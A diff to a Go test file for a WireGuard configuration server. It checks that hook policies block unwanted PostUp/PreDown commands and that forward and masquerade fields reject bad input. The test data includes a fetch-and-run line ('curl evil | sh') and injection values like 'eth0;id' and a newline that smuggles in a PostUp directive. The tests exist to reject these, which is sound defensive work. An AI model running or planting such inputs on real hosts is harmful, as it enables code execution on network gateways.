@@ -2,6 +2,7 @@ package server
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
 	"os"
 	"path/filepath"
@@ -148,7 +149,8 @@ func TestHookPolicies(t *testing.T) {
 		conf := n.conf("wg0")
 		require.Equal(t, 200, n.do("PUT", configPath, map[string]any{"post_up": "post-up two", "pre_down": "pre-down"}).status)
 		require.Equal(t, conf, n.conf("wg0"), "what GET shows can be written back")
-		require.Equal(t, c.own, n.do("PUT", configPath, map[string]any{"pre_down": "post-up one"}).status, c.policy)
+		require.Equal(t, c.new, n.do("PUT", configPath, map[string]any{"pre_down": "post-up one"}).status, "moved to another key")
+		require.Equal(t, c.own, n.do("PUT", configPath, map[string]any{"post_up": "post-up one"}).status, c.policy)
 		r := n.do("PUT", configPath, map[string]any{"post_up": "curl evil | sh"})
 		require.Equal(t, c.new, r.status, c.policy)
 		if c.new == 403 {
@@ -157,6 +159,96 @@ func TestHookPolicies(t *testing.T) {
 		}
 		require.Equal(t, c.clear, n.do("PUT", configPath, map[string]any{"post_up": ""}).status, c.policy)
 	}
+}
+
+// TestHookLists: whole lists, each under the policy of its own key.
+func TestHookLists(t *testing.T) {
+	n, h := hookedNode(t, HooksLocal)
+	conf := n.conf("wg0")
+	status := func(hooks any) int { return n.do("PUT", configPath, map[string]any{"hooks": hooks}).status }
+	for _, same := range []any{nil, map[string]any{}, map[string]any{"pre_up": nil}, map[string]any{
+		"pre_up": []string{"pre-up %i"}, "post_up": []string{"post-up one", "post-up two"}, "pre_down": []string{"pre-down"}, "post_down": []string{"post-down"},
+	}} {
+		require.Equal(t, 200, status(same))
+		require.Equal(t, conf, n.conf("wg0"))
+	}
+	require.Empty(t, h.take())
+	for _, other := range []any{
+		map[string]any{"post_up": []string{"post-up one", "evil"}}, map[string]any{"pre_down": []string{"post-down"}}, map[string]any{"pre_up": []string{"post-up one"}},
+	} {
+		require.Equal(t, 403, status(other))
+	}
+	for _, bad := range []any{"x", []string{"x"}, map[string]any{"post_up": "x"}, map[string]any{"post_up": []any{1}}, map[string]any{"post_up": []string{"a\nb"}}, map[string]any{"post_up": []string{"echo (hidden)"}}} {
+		require.Equal(t, 422, status(bad), "%v", bad)
+	}
+	r := n.do("PUT", configPath, map[string]any{"post_up": "post-up one", "hooks": map[string]any{"post_up": []string{}}})
+	require.Equal(t, 422, r.status)
+	require.Equal(t, conf, n.conf("wg0"))
+
+	require.Equal(t, 200, status(map[string]any{"post_up": []string{"post-up two"}, "post_down": []string{}}))
+	require.Equal(t, []string{"pre-down", "post-down", "pre-up wg0", "post-up two"}, h.take())
+	require.NotContains(t, n.conf("wg0"), "post-up one")
+	require.NotContains(t, n.conf("wg0"), "PostDown")
+
+	deny, _ := hookedNode(t, HooksDeny)
+	require.Equal(t, 403, deny.do("PUT", configPath, map[string]any{"hooks": map[string]any{"post_up": []string{"post-up two"}}}).status)
+	allow, h := hookedNode(t, HooksAllow)
+	allow.mustDo("PUT", configPath, map[string]any{"hooks": map[string]any{"pre_up": []string{"a %i", "b # c"}, "post_down": []string{"z"}}})
+	require.Equal(t, []string{"pre-down", "post-down", "a wg0", "b # c", "post-up one", "post-up two"}, h.take())
+	require.Contains(t, allow.conf("wg0"), "PreUp = a %i\nPreUp = b # c\n")
+	require.Contains(t, allow.conf("wg0"), "PostDown = z\n")
+}
+
+// TestForwardAndMasquerade are no hooks: the policy for those does not bar them.
+func TestForwardAndMasquerade(t *testing.T) {
+	n, h := hookedNode(t, HooksDeny)
+	settings := func() (forward, masquerade any) {
+		var got struct{ Config map[string]any }
+		require.NoError(t, json.Unmarshal(n.mustDo("GET", configPath, nil).body, &got))
+		return got.Config["forward"], got.Config["masquerade"]
+	}
+	forward, masquerade := settings()
+	require.Nil(t, forward)
+	require.Nil(t, masquerade)
+
+	r := n.mustDo("PUT", configPath, map[string]any{"forward": "eth0,wg0", "masquerade": "any"})
+	require.Contains(t, string(r.body), `"reloaded":true`)
+	require.NotEmpty(t, h.take())
+	require.Contains(t, n.conf("wg0"), "# wgfleet: forward eth0, wg0\n# wgfleet: masquerade any\n")
+	require.Contains(t, n.conf("wg0"), "# the office\n")
+	forward, masquerade = settings()
+	require.Equal(t, "eth0, wg0", forward)
+	require.Equal(t, "any", masquerade)
+
+	conf := n.conf("wg0")
+	for _, same := range []map[string]any{
+		{"forward": nil, "mtu": nil}, {"forward": " eth0 , wg0 "}, {"masquerade": "any"},
+	} {
+		require.Contains(t, string(n.mustDo("PUT", configPath, same).body), `"reloaded":false`)
+	}
+	for _, bad := range []map[string]any{
+		{"forward": "eth0;id"}, {"masquerade": "eth0\nPostUp = id"}, {"masquerade": true}, {"forward": "eth0 # x"}, {"forward": ","},
+	} {
+		r := n.do("PUT", configPath, bad)
+		require.Equal(t, 422, r.status, "%v", bad)
+	}
+	require.Equal(t, conf, n.conf("wg0"))
+	require.Empty(t, h.take())
+
+	n.mustDo("PUT", configPath, map[string]any{"forward": "", "masquerade": ""})
+	require.NotContains(t, n.conf("wg0"), "wgfleet:")
+}
+
+// TestDirectiveThatIsWrong: a typo in the file stops a change, which says where it is.
+func TestDirectiveThatIsWrong(t *testing.T) {
+	n := newNode(t, withConf(t))
+	path := filepath.Join(n.o.ConfDir, "wg0.conf")
+	text := strings.Replace(n.conf("wg0"), "[Interface]\n", "[Interface]\n# wgfleet: masqerade eth0\n", 1)
+	require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
+	r := n.do("PUT", configPath, map[string]any{"mtu": 1400})
+	require.NotEqual(t, 200, r.status)
+	require.Contains(t, string(r.body), "wg0.conf: line 3: # wgfleet: expected forward or masquerade, got \\\"masqerade\\\"")
+	require.Equal(t, text, n.conf("wg0"))
 }
 
 func TestConfigOfANewInterface(t *testing.T) {
